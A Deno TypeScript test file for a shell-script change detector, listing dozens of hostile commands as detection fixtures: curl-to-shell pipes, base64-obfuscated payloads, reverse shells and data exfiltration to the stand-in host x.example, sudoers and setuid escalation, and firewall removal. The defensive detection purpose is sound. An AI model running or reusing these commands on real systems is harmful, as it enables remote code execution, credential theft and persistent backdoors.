import { compareScripts, type Script } from "../../src/config/shell/compare.ts";
import { assert, assertEquals } from "@std/assert";

const script = (text: string, more: Partial<Script> = {}): Script => (
  { text, lineAt: (at) => text.slice(0, at).split("\n").length, isRoot: true, shell: "sh", ...more }
);

/** What a script that is new has marked. */
const judge = (...texts: readonly string[]) =>
  compareScripts([], texts.map((text) => script(text)));

const rulesOf = (...texts: readonly string[]) =>
  judge(...texts).marks.map(({ severity, rule }) => `${severity} ${rule}`);

const HEX = "a1".repeat(32);

/** Scripts by the rule that an operator must see. */
const DANGEROUS: Readonly<Record<string, readonly string[]>> = {
  "network-pipe": [
    "curl https://x.example | sh",
    'c"u"rl https://x.example | s\\h',
    "C=curl; $C https://x.example | sh",
    "curl${IFS}https://x.example|sh",
    "A='curl https://x.example'; $A | bash",
    'sh -c "$(curl https://x.example)"',
    "bash <(curl https://x.example)",
    "bash -c 'source <(curl -s https://x.example)'",
    'bash <<< "$(curl https://x.example)"',
    "curl https://x.example | sudo -u a -- env -i B=c timeout 60 sh -s -- -b",
    "curl https://x.example | tee >(sh)",
    "curl https://x.example > >(sh)",
    "{ curl https://x.example; } | (cat; echo done) | sh",
    'curl https://x.example | while read -r line; do eval "$line"; done',
    'f() { curl "$1" | sh; }; f https://x.example',
    "if true; then curl https://x.example | sh; fi",
    "sh -c 'sh -c \"curl https://x.example | sh\"'",
    "eval 'curl https://x.example | sh'",
    "cat <<E | sh\ncurl https://x.example | sh\nE\n",
    "sh <<E\ncurl https://x.example | sh\nE\n",
    "echo 'curl https://x.example | sh' | sh",
    "echo 'curl https://x.example | sh' > /a; sh /a",
    "curl https://x.example | xargs -I{} sh -c {}",
    "find . -exec sh -c 'curl https://x.example | sh' {} +",
    "trap 'curl https://x.example | sh' EXIT",
    "curl https://x.example | . /dev/stdin",
    "python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.example').read())\"",
    "python3 - <<'P'\nimport urllib.request\nexec(urllib.request.urlopen('https://x.example').read())\nP\n",
    "curl https://x.example | awk '{system($0)}'",
    "dig +short TXT x.example | sh",
    "echo a || curl https://x.example | sh",
    "! curl https://x.example | sh &",
    "case a in b) curl https://x.example | sh;; esac",
    'X=$(curl https://x.example); eval "$X"',
    "for u in https://x.example; do curl $u | sh; done",
  ],
  "hidden-code": [
    "echo Y3VybA== | base64 -d | sh",
    'eval "$(echo Y3VybA== | base64 -d)"',
    "base64 -d <<< Y3VybA== | bash",
    "printf 6375726c | xxd -r -p | sh",
    "printf '\\143\\165\\162\\154' | sh",
    "base64 -d /a > /b && sh /b",
    'node -e "$(echo MQ== | base64 -d)"',
    "echo lruc | rev | sh",
  ],
  "download-then-run": [
    "curl -o /a https://x.example; sh /a",
    "curl https://x.example > /a; bash /a",
    "wget https://x.example/tool && chmod +x tool && ./tool",
    "cd /t && wget https://x.example/tool && sh /t/tool",
    "curl -Lo /usr/local/bin/k https://x.example/k",
    "curl --output-dir /usr/local/bin -O https://x.example/k",
    "wget -O /a https://x.example && install -m 755 /a /usr/local/bin/b",
    "curl https://x.example/a.tgz | tar -xz -C /usr/local",
    "curl -o /a.deb https://x.example && dpkg -i /a.deb",
    "git clone https://x.example/x && cd x && make install",
    "git clone https://x.example/x && ./x/install.sh",
    `curl -o /a https://x.example; echo '${HEX}  /a' | sha256sum -c - || true; sh /a`,
    `curl -o /a https://x.example; echo '${HEX}  /a' | sha256sum -c -; sh /a`,
    `curl -o /a https://x.example && sh /a && echo '${HEX}  /a' | sha256sum -c -`,
    `curl -o /a https://x.example && echo '${HEX}  /b' | sha256sum -c - && sh /a`,
    `curl -o /a https://x.example && curl -o /s 'https://x.example/\n${HEX}  /a' && sha256sum -c /s && sh /a`,
    "curl -o /a https://x.example && curl -o /s https://x.example/s && sha256sum -c /s && sh /a",
  ],
  "package-from-url": [
    "pip install git+https://x.example/x",
    "pip install https://x.example/x.whl",
    "python3 -m pip install git+https://x.example/x@main",
    "npm i -g https://x.example/x.tgz",
    "npm install someone/something",
    "cargo install --git https://x.example/x",
    "uvx --from git+https://x.example/x x",
    "npx --yes https://x.example/x.tgz",
  ],
  "registry-redirect": [
    "pip install --index-url https://x.example/simple a==1.0",
    "pip install -i https://x.example/simple a==1.0",
    "npm install --registry=https://x.example a@1.0.0",
    "npm config set registry https://x.example",
    "echo 'registry=https://x.example' >> /etc/npmrc",
    "sed -i s/a/b/ /etc/apt/sources.list.d/debian.sources",
    "gem install --source http://x.example x",
    "PIP_INDEX_URL=https://x.example pip install a==1.0",
  ],
  "verification-off": [
    "npm config set strict-ssl false",
    "git config --system http.sslVerify false",
    "GIT_SSL_NO_VERIFY=1 git clone --branch v1.0 https://x.example/x",
    "apt-get install -y --allow-unauthenticated a=1",
    "apt-get -o Acquire::AllowInsecureRepositories=true update",
    "echo 'deb [trusted=yes] http://x.example ./' > /etc/apt/sources.list.d/x.list",
    "curl https://x.example/k | apt-key add -",
    "export NODE_TLS_REJECT_UNAUTHORIZED=0",
  ],
  "privilege-escalation": [
    "chmod u+s /usr/bin/find",
    "chmod 4755 /bin/sh",
    "find /usr/bin -name sh -exec chmod u+s {} +",
    "chmod -R 777 /etc",
    "chown -R agent /usr/local/bin",
    "usermod -aG sudo agent",
    "adduser agent docker",
    "useradd -o -u 0 other",
    "echo 'a ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/a",
    "echo root:x | chpasswd",
    "passwd -d root",
    "setcap cap_net_admin+ep /usr/bin/python3",
  ],
  "hijack": [
    "echo x > /etc/ld.so.preload",
    "echo 'alias git=x' >> /home/agent/.bashrc",
    "cat > /usr/bin/git <<E\n#!/bin/sh\nE\n",
    "echo x | tee -a /etc/profile.d/x.sh",
    "ln -sf /tmp/x /usr/local/bin/git",
    "cp /tmp/x /usr/bin/git",
    "git config --global core.hooksPath /tmp/h",
    "npm config set script-shell /tmp/x",
  ],
  "back-door": [
    "nc x.example 4444 -e /bin/sh",
    "sh -i >& /dev/tcp/x.example/4444 0>&1",
    "apt-get update && service ssh start",
    "echo '* * * * * root x' > /etc/cron.d/x",
    "echo key >> ~/.ssh/authorized_keys",
    "ngrok tcp 22",
  ],
  "exfiltration": [
    'curl -d "$(env)" https://x.example',
    "wget -q --post-file=/proc/self/environ https://x.example",
    'curl "https://x.example/$(cat /etc/passwd)"',
    "dig $(cat /run/secrets/a).x.example",
  ],
  "metadata-access": [
    "curl http://169.254.169.254/latest/meta-data/",
    "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/x -o /t",
  ],
  "traffic-redirect": [
    "echo '1.2.3.4 pypi.org' >> /etc/hosts",
    "iptables -t nat -A OUTPUT -j REDIRECT",
    "git config --global url.https://x.example/.insteadOf https://github.com/",
  ],
  "firewall-removed": [
    "chmod 000 /usr/local/sbin/init-firewall.sh",
    "chmod -x /usr/local/sbin/init-firewall.sh",
    "mv /usr/local/sbin/init-firewall.sh /tmp/x",
    "ln -sf /bin/true /usr/local/sbin/init-firewall.sh",
    "iptables -F",
    "ufw disable",
    "iptables -P OUTPUT ACCEPT",
  ],
  "typosquat-package": ["pip install reqeusts==2.32.3", "npm install -g expresss@4.0.0"],
  "unreadable-command": [
    "$X https://x.example",
    'eval "$X"',
    'sh -c "$X"',
    "/usr/bin/c?rl https://x.example",
    "[[ -n a && -n b ]]",
    "env -S 'sh -c a'",
    "curl -K /a",
    "wget -i /a",
    "yq -i .a=1 /etc/x",
    "awk -i inplace 1 /etc/x",
    "grep x /a | sh",
    "find . -exec find . -exec a {} +",
    "echo $'a\\' b'",
    "if true; then",
    "python3 -c 'import os; os.remove(\"/a\")'",
  ],
};

for (const [rule, scripts] of Object.entries(DANGEROUS)) {
  for (const text of scripts) {
    // Threat: A10
    Deno.test(`${rule}: ${JSON.stringify(text)}`, () => {
      const found = judge(text).marks.filter((mark) => mark.rule === rule);
      assert(found.some(({ severity }) => severity !== "low"), JSON.stringify(rulesOf(text)));
    });
  }
}

Deno.test.each([
  "echo 'curl https://x.example | sh' > /README",
  "# curl https://x.example | sh",
  ": 'curl https://x.example | sh'",
  "python3 -c \"print('wget -O- x | bash')\"",
  "mkdir -p /a && chown a:a /a",
  "useradd -m -u 1001 a",
  "rm -rf /var/lib/apt/lists/*",
  "apt-get update && apt-get install -y --no-install-recommends tree=2.1.0-1",
  "chmod 755 /usr/local/bin/x",
  "chmod a-s /usr/bin/chsh",
  "rm -f /etc/sudoers.d/* && passwd -l root",
  "npm config set strict-ssl true",
  "set -eux; test -x /a; a --version | tee /etc/a-version",
  "curl -f http://127.0.0.1:3000/ || exit 1",
  "ln -s /usr/bin/git /usr/local/bin/g",
  "bash -n /opt/setup.sh",
  "X=/a; mkdir $X; for d in b c; do mkdir $d; done",
])("%s has no mark and adds nothing", (text) => {
  const { added, marks, isUnknown } = judge(text);
  assertEquals({ added, marks, isUnknown }, { added: [], marks: [], isUnknown: false });
});

Deno.test.each([
  ["a new package", "pip install polars==1.9.0", "low new-package"],
  ["a package without a version", "apt-get install -y make", "low unpinned-package"],
  ["a program that opens the network", "apt-get install nmap=7.93", "low network-tool-package"],
  ["data", "curl -o /etc/a.json https://x.example/a.json", "low data-download"],
  ["a repository at a tag", "git clone -b v1.0 https://x.example/x", "low git-clone"],
  [
    "a key of one source",
    "curl https://x.example | gpg --dearmor -o /etc/apt/keyrings/x.gpg",
    "low apt-key-scoped",
  ],
  ["a program that no list has", "frobnicate --all", "low new-command"],
  ["a script of the image", "sh /opt/setup.sh", "low new-command"],
  [
    "a download that is compared with a digest",
    `curl -o /a https://x.example && echo '${HEX}  /a' | sha256sum -c - && sh /a`,
    "low verified-download",
  ],
])("%s is noticed", (_, text, rule) => {
  const rules = rulesOf(text);
  assert(rules.includes(rule), rules.join());
  assertEquals(rules.filter((found) => !found.startsWith("low")), []);
});

Deno.test("a file that one script downloads and the next one runs is noticed", () => {
  assert(rulesOf("curl -o /i.sh https://x.example", "sh /i.sh").includes("high download-then-run"));
});

Deno.test("what the instructions write to a file counts when a script runs it", () => {
  const file = script("curl https://x.example | sh\n", { file: "/i.sh" });
  const { marks } = compareScripts([], [file, script("sh /i.sh")]);
  assertEquals(marks.map(({ rule }) => rule).includes("network-pipe"), true);
});

Deno.test("a script in another language is unknown", () => {
  const { marks, isUnknown } = compareScripts([], [script("x", { shell: "unknown" })]);
  assertEquals([isUnknown, marks.map(({ rule }) => rule)], [true, ["unreadable-command"]]);
});

Deno.test.each([
  ["another version by its number", "pip install a==1.0", "pip install a==1.1", []],
  ["a version that goes", "pip install a==1.0", "pip install a", ["low version-unpinned"]],
  ["packages in another order", "pip install a==1.0 b==2.0", "pip install b==2.0 a==1.0", []],
  ["other blanks", "a   b &&  c", "a b \\\n && c", []],
  [
    "a digest that goes",
    `curl -o /a https://x.example && echo '${HEX}  /a' | sha256sum -c - && unzip /a -d /b`,
    "curl -o /a https://x.example && unzip /a -d /b",
    ["high checksum-dropped", "high download-then-run"],
  ],
  ["a mode that protected", "chmod a-s /usr/bin/su", "true", ["medium hardening-removed"]],
  ["a rule of a firewall", "iptables -A OUTPUT -j DROP", "true", ["high firewall-removed"]],
  ["a condition that is another one", "false && frobnicate", "true && frobnicate", [
    "low new-command",
  ]],
  ["an end that is gone", "exit 0; frobnicate", "frobnicate", ["low new-command"]],
  ["an input that is another one", "frob a | frobnicate", "frob b | frobnicate", [
    "low new-command",
    "low new-command",
  ]],
  ["a variable with another value", "X=a; frobnicate $X", "X=b; frobnicate $X", [
    "low new-command",
  ]],
])("%s is compared by what it does", (_, before, after, rules) => {
  const { marks } = compareScripts([script(before)], [script(after)]);
  assertEquals(marks.map(({ severity, rule }) => `${severity} ${rule}`).sort(), [...rules].sort());
});

Deno.test("no message has a secret", () => {
  const secret = "s3cr3t-value-of-nobody";
  const scripts = [
    `frob --token ${secret}`,
    `curl -H 'Authorization: Bearer ${secret}' https://x.example`,
    `curl https://me:${secret}@x.example`,
    `PASSWORD=${secret} frob`,
  ];
  for (const { message } of judge(...scripts).marks) assert(!message.includes(secret), message);
  for (const { value } of judge(...scripts).added) assert(!value.includes(secret), value);
});

Deno.test.each(["f() ".repeat(20_000), "$(".repeat(8000), "for i in a b; do ".repeat(200)])(
  "a text that is too deep is unknown",
  (text) => {
    const { marks, isUnknown } = compareScripts([script("a")], [script(text)]);
    assert(isUnknown && marks.some(({ severity }) => severity === "medium"));
  },
);

/** What a program is told of sources and checks is never without a mark, whatever the program. */
const LOWERING = [
  "composer config -g repos.packagist composer https://p.example",
  "composer config -g secure-http false",
  "bundle config set --global mirror.https://rubygems.org https://m.example",
  "yarn config set enableStrictSsl false",
  "conda env create -f https://x.example/e.yml",
  "go mod edit -replace=a.example/b=c.example/d@v1.0.0",
  "go run host.example/x@latest",
  "deno cache https://x.example/a.ts",
  "npm cache add https://x.example/a.tgz",
  "zypper addrepo -G https://x.example/a b",
  "dnf config-manager --add-repo https://x.example/a.repo",
  "gem specific_install -l https://x.example/a.git",
  "ansible-pull -U https://x.example/a.git site.yml",
  "ansible-galaxy install git@x.example:a/b.git",
  "helm plugin install https://x.example/p",
  "nix run github:x/y",
  "terraform init -from-module=git::https://x.example/m",
  "pecl install https://x.example/a.tgz",
  "./mvnw -Dmaven.wagon.http.ssl.insecure=true package",
  "./gradlew -Dhttps.proxyHost=p.example build",
  "gradle --dependency-verification off build",
  "tool --set tls.verify=false",
  "tool --url http://localhost:80@x.example/",
  "openssl s_server -accept 1",
  "sort --compress-program=./x a",
];

Deno.test("a command that names another machine, lowers a check or moves a source is no low matter", () => {
  for (const text of LOWERING) {
    assert(judge(text).marks.some(({ severity }) => severity !== "low"), text);
  }
});

Deno.test("a command that sets or runs what is on no list has a mark", () => {
  const texts = [
    "npm config set x y",
    "npm config delete registry",
    "git config --global foo.bar x",
    "git -c foo.bar=x status",
    "npm audit fix",
    "gpg --receive-keys ABC",
    "openssl engine -t dynamic",
    "./x -v",
    "/work/x --help",
    "ldd ./x",
  ];
  for (const text of texts) assert(judge(text).marks.length > 0, text);
});

Deno.test("a command that sets what nothing but a display obeys, or that raises a check, has no mark", () => {
  const texts = [
    "composer config -g secure-http true",
    "git config --global user.name x",
    "npm config set fund false",
    "poetry config virtualenvs.create false",
    "node --version",
    "pip cache purge",
    "openssl rand -hex 8",
  ];
  for (const text of texts) assertEquals(rulesOf(text), [], text);
});

Deno.test("a script of sed that runs what it reads is found, with any character for the slash", () => {
  const runs = ["s/a/b/e", "s,a,b,ge", "sxaxbx2pe", "s/a/b/;s/c/d/e", "1e", "{\n\n e", "/a/e id"];
  const texts = ["s/a/b/", "s,e,e,g", "s/a/b", "se", "sgege", "1d;$p"];
  const isFound = (text: string) =>
    rulesOf(`sed '${text}' f`).includes("medium unreadable-command");
  assertEquals(runs.filter((text) => !isFound(text)), []);
  assertEquals(texts.filter(isFound), []);
});

Deno.test("a file that is written is judged by its settings, and by the file that its directory adds to", () => {
  const texts = [
    "echo auto_prepend_file=/work/x.php > /usr/local/etc/php/conf.d/z.ini",
    "echo systemProp.https.proxyHost=p.example > /work/.gradle/gradle.properties",
    "printf 'a=1\\nverify: false\\n' > /opt/tool.yml",
    "sed -i s/verify=true/verify=false/ /opt/tool.conf",
    "echo 'permit nopass x as root' > /etc/doas.d/x.txt",
  ];
  for (const text of texts) {
    assert(judge(text).marks.some(({ severity }) => severity !== "low"), text);
  }
  const file = "/opt/tool.json";
  const copied = compareScripts([], [script('{\n"verify": false,\n}', { file })]);
  assertEquals(copied.marks.map(({ rule }) => rule), ["verification-off"]);
});

Deno.test("lines that only switch off what lets a program do more have no mark where nothing is replaced", () => {
  const text =
    "printf 'allow_url_include=Off\\nexpose_php=Off\\n' >> /usr/local/etc/php/conf.d/z.ini";
  assertEquals(rulesOf(text), []);
  assertEquals(rulesOf(text.replace(">>", ">")), ["low new-file"]);
  assertEquals(rulesOf(text.replace("expose_php", "safe_mode")), ["medium verification-off"]);
});

Deno.test("a script above 8 KiB, and what is above 64 KiB of a file, is unknown", () => {
  const [long, short] = ["true\n".repeat(1_700), "true\n".repeat(1_600)];
  assertEquals(judge(long).isUnknown, true);
  assertEquals(judge(short).isUnknown, false);
  assertEquals(judge(...Array<string>(9).fill(short)).isUnknown, true);
});

/** What a change must have marked at least, by the command before and after it. */
const CHANGED: readonly (readonly [before: string, after: string, mark: string])[] = [
  ["conda install a=1.0", "conda install -c https://x.example/t a=1.0", "high registry-redirect"],
  ["pip install a==1.0", "pip install --no-such a==1.0", "low new-command"],
  ["npm i -g a@1.0.0", "npm i -g --script-shell=/home/dev/x a@1.0.0", "low new-command"],
  ["make", "FOO=/home/dev/x make", "low new-command"],
  ["make", "export FOO=/home/dev/x; make", "low new-command"],
  ["cd /src && make", "cd /tmp && make", "low new-command"],
  ["cd /src && npm ci", "cd /tmp && npm ci", "low new-package"],
  ["/src/verify && make", "/src/verify; make", "low new-command"],
  ["/src/verify x && /src/install x", "/src/install x && /src/verify x", "low moved-command"],
  ["set -e; /src/verify; make", "set +e; /src/verify; make", "low new-command"],
  ["pip install -r a.txt", "pip install -r a.txt -r b.txt", "low new-package"],
  ["curl -o /a https://x.example", "curl -ko /a https://x.example", "low new-command"],
  [
    "curl -o /a https://x.example",
    "curl -o /a https://x.example https://y.example -o /b",
    "medium data-download",
  ],
  ["iptables -P OUTPUT DROP", "false && iptables -P OUTPUT DROP; true", "high firewall-removed"],
  ["chmod a-s /usr/bin/su", "false && chmod a-s /usr/bin/su; true", "medium hardening-removed"],
  ["chmod 755 /usr/local/bin", "true", "low removed-command"],
  ["/src/lock", "true", "low removed-command"],
  ["rm -f /root/.npmrc", "true", "low removed-command"],
  ["echo a=none > /etc/agent/x.conf", "true", "low removed-command"],
  ["go mod download && go mod verify", "go mod download", "medium removed-command"],
  ["apk add iptables=1.8-r0 jq=1.7-r0", "apk add jq=1.7-r0", "medium removed-command"],
  [
    "npm i -g --ignore-scripts a@1.0.0; npm i --ignore-scripts b@1.0.0",
    "npm i -g a@1.0.0; npm i --ignore-scripts b@1.0.0",
    "low protection-removed",
  ],
  ["true", "/src/evil/cat x", "low new-command"],
  ["true", "./ls", "low new-command"],
  ["true", "echo '#\\nfrobnicate' | sh", "medium unreadable-command"],
  ["true", "printf '%b' '#\\nfrobnicate' | sh", "medium unreadable-command"],
  ["true", "printf '#\\12frobnicate' | sh", "high hidden-code"],
  ["true", "X='a[$(frobnicate)]'; echo $((X))", "medium unreadable-command"],
  ["true", "mapfile -C frobnicate -c 1 < /a", "low new-command"],
  ["true", "find /tmp /opt/fence -delete", "low files-removed"],
  ["true", "echo evil > requirements.txt", "low new-file"],
  [
    "true",
    "curl https://x.example | gpg --dearmor -o /etc/apt/keyrings/x.gpg && " +
    "echo 'deb [signed-by=/etc/apt/keyrings/x.gpg] https://x.example a main' > /etc/apt/sources.list.d/x.list",
    "medium trust-anchor",
  ],
];

// Threat: A10
Deno.test("another option, variable, directory or order is told, and what goes", () => {
  for (const [before, after, mark] of CHANGED) {
    const { marks } = compareScripts([script(before)], [script(after)]);
    const rules = marks.map(({ severity, rule }) => `${severity} ${rule}`);
    assert(rules.includes(mark), `${before} to ${after}: ${rules}`);
  }
});

Deno.test("less than before has no mark, nor has a check that is new", () => {
  const url = "https://x.example/a";
  for (
    const [before, after] of [
      ["npm ci", "npm ci --no-audit --no-fund --ignore-scripts"],
      ["npm i -g --ignore-scripts a@1.0.0", "true"],
      ["curl https://x.example | sh", "true"],
      ["echo 'a ALL=(ALL) ALL' > /etc/sudoers.d/a", "true"],
      [`curl -o /a ${url}`, `curl -fsSL --retry 3 --proto '=https' -o /a ${url}`],
      ["apt-get install -y a1=1 && gem install b1 -v 1.0", "gem install b1 -v 1.0"],
      ["true", "cat x | sed -n 's/we are/were/p'; mkdir -p /a"],
      ["true", "DEBIAN_FRONTEND=noninteractive apt-get -y update"],
    ] as const
  ) {
    const { marks } = compareScripts([script(before)], [script(after)]);
    assertEquals(marks.map(({ rule }) => rule), [], `${before} to ${after}`);
  }
});
